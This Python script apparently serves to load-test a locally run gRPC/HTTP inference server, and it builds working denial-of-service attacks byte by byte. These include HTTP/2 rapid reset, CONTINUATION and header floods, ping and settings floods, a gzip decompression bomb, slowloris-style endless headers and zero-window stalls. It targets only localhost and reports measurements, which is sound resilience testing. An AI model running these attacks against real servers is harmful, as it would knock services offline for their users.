#!/usr/bin/python3
"""HTTP/2 and HTTP/1 as an attacker speaks them: bytes by hand, sent as fast as they go, or not at all.

    http2_attacks.py KIND --port PORT --seconds 5 [--connections 4] [--tls] [--source 127.0.0.2]

A connection that the server closes is opened anew at once. Those of IDLE stay open when they have said what they say; those of UNREAD do, too, and
nothing that the server sends is read. Prints one line of JSON: what was sent, and how often the
server closed a connection. Run as a program of its own, so that it does not slow the client down that measures.
"""
import argparse
import functools
import gzip
import json
import selectors
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)
GENERATE = b"/winnow.v1.InferenceService/Generate"
# Streams for each connection before it is opened anew: their blocks are made once.
STREAMS = 40_000
IDLE = ("idle", "half_scrapes")
UNREAD = ("unread_grpc", "unread_http")
# Bytes that the kernel may hold for a reader of UNREAD.
UNREAD_BYTES = 4096


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, prefix_bits, first=0):
    """An HPACK integer whose first byte begins with the bits of `first`."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    value -= most
    out = bytearray([first | most])
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + bytes([value]))


def string(text):
    return integer(len(text), 7) + text


def literal(name, value):
    """A header field that is not indexed, nor Huffman coded."""
    return b"\x00" + string(name) + string(value)


def call_fields(path=GENERATE):
    return [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x"),
            (b"content-type", b"application/grpc"), (b"te", b"trailers")]


def call_headers(*more, path=GENERATE):
    return b"".join(literal(*field) for field in [*call_fields(path), *more])


def hello():
    return PREFACE + frame(SETTINGS, 0, 0)


def small_calls():
    """A first header block that puts the fields of a call into the connection's table, and the later ones: a byte each."""
    fields = call_fields()
    first = b"".join(b"\x40" + string(name) + string(value) for name, value in fields)
    return first, bytes(0x80 | 62 + len(fields) - 1 - i for i in range(len(fields)))


def resets(message=None, end=False):
    """HEADERS and RST_STREAM, with the message between them if there is one. `end`: as its stream's last."""
    first, later = small_calls()
    yield hello()
    for begin in range(0, STREAMS, 500):
        chunk = bytearray()
        for i in range(begin, begin + 500):
            stream = 2 * i + 1
            chunk += frame(HEADERS, END_HEADERS, stream, first if i == 0 else later)
            if message is not None:
                chunk += frame(DATA, END_STREAM if end else 0, stream, b"\x00" + struct.pack(">I", len(message)) + message)
            chunk += frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08")
        yield bytes(chunk)


def announced_header():
    """A header value of 1 GiB, sent in frames that never end it."""
    yield hello() + frame(HEADERS, 0, 1, call_headers() + b"\x00" + string(b"x-big") + integer(1 << 30, 7))
    piece = frame(CONTINUATION, 0, 1, b"a" * 16384)
    for _ in range((1 << 30) // 16384):
        yield piece


def continuations():
    """47 MB of header fields after fields, in CONTINUATION frames without an end; some of them empty."""
    yield hello() + frame(HEADERS, 0, 1, call_headers())
    piece = b"".join(frame(CONTINUATION, 0, 1, literal(b"x-%d" % i, b"a" * 120)) + frame(CONTINUATION, 0, 1) for i in range(64))
    for _ in range(47_000_000 // len(piece)):
        yield piece


def small_frames(piece):
    yield hello() + frame(HEADERS, END_HEADERS, 1, call_headers())
    for _ in range(4000):
        yield piece


@functools.cache
def bomb():
    """A message that inflates a thousand times, and is small enough for the window of a stream that just began."""
    small = gzip.compress(bytes(60 << 20), 9)
    return b"\x01" + struct.pack(">I", len(small)) + small


def compressed_messages():
    message = bomb()
    yield hello()
    for stream in range(1, 2 * STREAMS, 2):
        yield frame(HEADERS, END_HEADERS, stream, call_headers((b"grpc-encoding", b"gzip")))
        pieces = [message[i:i + 16384] for i in range(0, len(message), 16384)]
        for piece in pieces:
            yield frame(DATA, END_STREAM if piece is pieces[-1] else 0, stream, piece)


def endless_head():
    """HTTP/1: a request whose headers do not end."""
    yield b"POST /v1/completions HTTP/1.1\r\nHost: x\r\n"
    for i in range(1 << 20):
        yield b"".join(b"x-%d-%d: %s\r\n" % (i, j, b"a" * 200) for j in range(64))


def unread_grpc():
    """A call for a long answer, whose stream may not get a byte: its window is empty."""
    # text {text: "x"}, stopping {max_tokens: 4000, ignore_eos: true}, top_logprobs: 20
    message = bytes.fromhex("0a030a0178" "2a0508a01f2801" "3814")
    yield PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + frame(HEADERS, END_HEADERS, 1, call_headers())
    yield frame(DATA, END_STREAM, 1, b"\x00" + struct.pack(">I", len(message)) + message)


def unread_http():
    body = json.dumps({"messages": [{"role": "user", "content": "x"}], "stream": True, "max_tokens": 4000, "ignore_eos": True, "logprobs": True,
                       "top_logprobs": 20}).encode()
    yield b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body


def kinds():
    message = bytes.fromhex("0a030a0178")  # a GenerateRequest: text { text: "x" }
    return {
        "rapid_reset": lambda: resets(),
        "rapid_reset_body": lambda: resets(message),
        "rapid_reset_whole": lambda: resets(message, end=True),
        "announced_header": announced_header,
        "continuations": continuations,
        "connections": lambda: iter([hello()]),  # and closed at once
        "pings": lambda: small_frames(frame(PING, 0, 0, bytes(8)) * 1000),
        "settings": lambda: small_frames(frame(SETTINGS, 0, 0) * 1000),
        "empty_data": lambda: small_frames(frame(DATA, 0, 1) * 1000),
        "compressed": compressed_messages,
        "endless_head": endless_head,
        "idle": lambda: iter(()),
        "half_scrapes": lambda: iter([b"GET /metrics HTTP/1.1\r\nHost: x\r\n"]),
        "unread_grpc": unread_grpc,
        "unread_http": unread_http,
    }


class Attacker:
    """One connection at a time, and the blocks that are sent on it. What the server sends is read and dropped, unless `reads` is false."""

    def __init__(self, connect, make_blocks, prepared, idles, reads):
        self.open, self.make_blocks, self.prepared, self.idles, self.reads = connect, make_blocks, prepared, idles, reads
        self.sent, self.closed = 0, 0
        self.connect()

    def connect(self):
        self.socket = self.open()
        self.socket.setblocking(False)
        self.blocks = iter(self.prepared) if self.prepared else self.make_blocks()
        self.left = b""
        self.waits_for = selectors.EVENT_WRITE

    def step(self):
        """Sends as much as the socket takes without waiting. False: the connection has ended."""
        try:
            for _ in range(8):
                if not self.left:
                    self.left = next(self.blocks)
                count = self.socket.send(self.left)
                self.sent += count
                self.left = self.left[count:]
        except WOULD_BLOCK:
            pass
        except StopIteration:
            if not self.idles:
                self.closed += 1
                return False
            self.waits_for = selectors.EVENT_READ if self.reads else None  # for its end
        except OSError:
            self.closed += 1
            return False
        if not self.reads:
            return True
        try:
            while self.socket.recv(65536):
                pass
            self.closed += 1
            return False
        except WOULD_BLOCK:
            pass
        except OSError:
            self.closed += 1
            return False
        return True


def connector(port, tls, source, receive_bytes=None):
    def connect():
        plain = socket.socket()
        if receive_bytes:  # before it is connected, or the window that is announced is larger
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        plain.settimeout(5)
        plain.bind((source, 0))
        plain.connect(("127.0.0.1", port))
        if not tls:
            return plain
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(plain)
    return connect


def attack(kind, connect, seconds, connections, until_eof):
    make_blocks = kinds()[kind]
    # Python makes a stream's bytes slower than the kernel sends them.
    prepared = list(make_blocks()) if kind.startswith("rapid") else None
    print("ready", flush=True)
    until = time.monotonic() + seconds
    selector = selectors.DefaultSelector()
    if until_eof:
        selector.register(sys.stdin, selectors.EVENT_READ)
    attackers, failed = [], 0
    for _ in range(connections):
        try:
            attacker = Attacker(connect, make_blocks, prepared, kind in IDLE + UNREAD, kind not in UNREAD)
        except OSError:  # as many as are let in
            failed += 1
            continue
        attackers.append(attacker)
        selector.register(attacker.socket, attacker.waits_for, attacker)
    while time.monotonic() < until:
        for key, _ in selector.select(0.05):
            attacker = key.data
            if attacker is None:
                until = 0
                continue
            if attacker.step():
                if attacker.waits_for is None:
                    selector.unregister(attacker.socket)
                elif key.events != attacker.waits_for:
                    selector.modify(attacker.socket, attacker.waits_for, attacker)
                continue
            selector.unregister(attacker.socket)
            attacker.socket.close()
            while time.monotonic() < until + 5:
                try:
                    attacker.connect()
                    break
                except OSError:
                    failed += 1
                    time.sleep(0.01)
            else:
                return  # nobody is there any more
            selector.register(attacker.socket, attacker.waits_for, attacker)
    for attacker in attackers:
        attacker.socket.close()
    print(json.dumps({"kind": kind, "sent_bytes": sum(a.sent for a in attackers), "closed": sum(a.closed for a in attackers),
                      "failed": failed}), flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=sorted(kinds()))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--until-eof", action="store_true", help="end when the input does, if that is earlier")
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--source", default="127.0.0.1", help="the address to come from")
    args = parser.parse_args()
    attack(args.kind, connector(args.port, args.tls, args.source, UNREAD_BYTES if args.kind in UNREAD else None), args.seconds, args.connections,
           args.until_eof)


if __name__ == "__main__":
    main()
